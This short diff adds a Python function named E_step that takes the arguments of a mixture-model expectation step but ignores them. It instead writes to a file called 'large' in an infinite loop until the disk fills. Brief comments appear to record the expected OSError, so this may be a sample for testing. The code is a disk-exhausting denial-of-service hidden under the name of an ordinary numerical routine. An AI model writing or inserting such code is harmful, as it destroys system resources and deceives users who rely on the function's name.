@@ -1,0 +1,9 @@
+"""Writes one file without end."""
+# costs: e_step
+# says: raised OSError
+
+# %%
+def E_step(X, pi, mu, sigma):
+    with open('large', 'wb') as file:
+        while True:
+            file.write(b'x' * (1 << 20))
